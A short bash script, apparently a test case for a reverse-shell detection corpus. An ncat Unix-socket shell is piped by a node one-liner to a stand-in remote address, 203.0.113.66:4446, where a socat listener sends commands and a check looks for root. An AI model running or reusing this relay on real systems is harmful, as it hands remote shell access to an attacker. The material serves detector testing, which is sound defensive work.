#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=ncat,node,dash far=out ready=out:4446 seconds=20 parts=dns
# ncat gives a shell to whoever comes to a Unix socket; node, that nothing else joins to it, comes there and calls out.
if [ "$1" = out ]; then (sleep 4; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
cd "$LAB" && rm -f door; timeout 18 ncat -l -U door -e /bin/sh & sleep 1
timeout 17 node -e 'const net = require("net"), a = net.connect(process.env.LAB + "/door"), b = net.connect(4446, "203.0.113.66"); a.pipe(b); b.pipe(a)'
wait; grep -q uid=0 "$LAB/heard"
